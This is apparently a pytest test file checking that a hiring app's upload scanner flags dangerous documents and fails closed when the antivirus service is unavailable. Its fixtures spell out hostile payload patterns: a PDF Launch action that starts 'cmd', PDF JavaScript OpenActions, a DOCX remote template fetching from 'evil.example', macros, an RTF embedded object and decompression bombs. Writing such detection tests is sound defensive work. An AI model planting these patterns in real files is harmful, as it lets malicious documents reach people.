from __future__ import annotations

import hashlib
import socket
import struct
import threading
import zipfile
from collections.abc import Iterator
from io import BytesIO

import pytest

from hiretrack.errors import Unavailable
from hiretrack.uploads.choices import ContentType, ScanStatus, Verdict
from hiretrack.uploads.scanning import inspect
from hiretrack.uploads.scanning.revealed import Bomb, refuse_bomb
from tests.factories.uploads import EICAR, docx, odt, pdf, rtf, zipped

SCRIPT = b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"
DANGEROUS = {
    "eicar as text": (EICAR, ContentType.TXT, "EICAR"),
    "eicar in a pdf stream": (pdf(hidden=EICAR), ContentType.PDF, "EICAR"),
    "eicar in a docx": (docx(media__x_dot_bin=EICAR), ContentType.DOCX, "EICAR"),
    "pdf with a script": (pdf(extra=SCRIPT), ContentType.PDF, "JavaScript"),
    "script under an escaped name": (
        pdf(extra=SCRIPT.replace(b"/S /JavaScript", b"/S /J#61vaScript")),
        ContentType.PDF,
        "JavaScript",
    ),
    "script in an object stream": (pdf(hidden=b"7 0 << /S /JavaScript /JS (x) >>"), ContentType.PDF, "JavaScript"),
    "pdf that starts a program": (pdf(extra=b"/OpenAction << /S /Launch /F (cmd) >>"), ContentType.PDF, "starts"),
    "docx with macros": (docx(word__vbaProject_dot_bin=b"x"), ContentType.DOCX, "macros"),
    "docx with a remote template": (
        docx(word___rels='<R Type=\'attachedTemplate" Target="https://evil.example/t.dotm"/>'),
        ContentType.DOCX,
        "template",
    ),
    "rtf with an object": (rtf("{\\object\\objdata 0105}"), ContentType.RTF, "embedded"),
    "docx bomb": (docx(word__big_dot_xml=b"0" * 40_000_000), ContentType.DOCX, "bomb"),
    "pdf bomb": (pdf(hidden=b"0" * 40_000_000), ContentType.PDF, "bomb"),
}


def verdict_on(content: bytes, content_type: str) -> Verdict:
    return inspect(content, content_type=content_type, sha256=hashlib.sha256(content).hexdigest())


@pytest.mark.parametrize("name", DANGEROUS)
def test_inspect_finds_danger(name: str) -> None:
    content, content_type, expected = DANGEROUS[name]

    verdict = verdict_on(content, content_type)

    assert verdict.status is ScanStatus.INFECTED
    assert expected in verdict.detail
    assert verdict.text == ""


@pytest.mark.parametrize(
    ("content", "content_type"),
    [
        (pdf("Bernoulli numbers"), ContentType.PDF),
        (docx("Bernoulli numbers"), ContentType.DOCX),
        (odt("Bernoulli numbers"), ContentType.ODT),
        (rtf("Bernoulli numbers"), ContentType.RTF),
        (b"Bernoulli numbers", ContentType.TXT),
    ],
    ids=["pdf", "docx", "odt", "rtf", "txt"],
)
def test_inspect_passes_and_reads_a_clean_file(content: bytes, content_type: str) -> None:
    verdict = verdict_on(content, content_type)

    assert verdict.status is ScanStatus.CLEAN
    assert "Bernoulli numbers" in verdict.text


def test_inspect_notices_another_file_than_was_checked() -> None:
    assert inspect(pdf(), content_type=ContentType.PDF, sha256="0" * 64).status is ScanStatus.ERROR


def test_members_that_overlap_are_a_bomb() -> None:
    archive = zipfile.ZipFile(BytesIO(zipped({"a": "x" * 100, "b": "y" * 100})))
    archive.filelist[0].compress_size = 10_000

    with pytest.raises(Bomb):
        refuse_bomb(archive.filelist, 500)


def test_broken_document_is_clean_but_has_no_text() -> None:
    verdict = verdict_on(docx().replace(b"word/document.xml", b"word/xxxxxxxx.xml"), ContentType.DOCX)

    assert verdict.status in {ScanStatus.CLEAN, ScanStatus.INFECTED}
    assert verdict.text == ""


@pytest.fixture
def clamd() -> Iterator[str]:
    """A server that speaks clamd's protocol and finds only the word `virus`."""
    server = socket.create_server(("127.0.0.1", 0))
    thread = threading.Thread(target=answer_once, args=[server])
    thread.start()
    yield f"tcp://127.0.0.1:{server.getsockname()[1]}"
    thread.join(10)
    server.close()


def answer_once(server: socket.socket) -> None:
    connection, _ = server.accept()
    with connection, connection.makefile("rb") as stream:
        assert stream.read(10) == b"zINSTREAM\0"
        content = b""
        while length := struct.unpack(">I", stream.read(4))[0]:
            content += stream.read(length)
        found = b"virus" in content
        connection.sendall(b"stream: Test.Virus FOUND\0" if found else b"stream: OK\0")


@pytest.mark.parametrize(("text", "expected"), [(b"a virus", ScanStatus.INFECTED), (b"a CV", ScanStatus.CLEAN)])
def test_clamd_has_its_say(settings: object, clamd: str, text: bytes, expected: ScanStatus) -> None:
    settings.CLAMD_URL = clamd

    verdict = verdict_on(text, ContentType.TXT)

    assert verdict.status is expected
    assert ("Test.Virus" in verdict.detail) == (expected is ScanStatus.INFECTED)


def test_absent_clamd_never_makes_a_file_clean(settings: object) -> None:
    settings.CLAMD_URL = "tcp://127.0.0.1:1"

    with pytest.raises(Unavailable):
        verdict_on(b"a CV", ContentType.TXT)
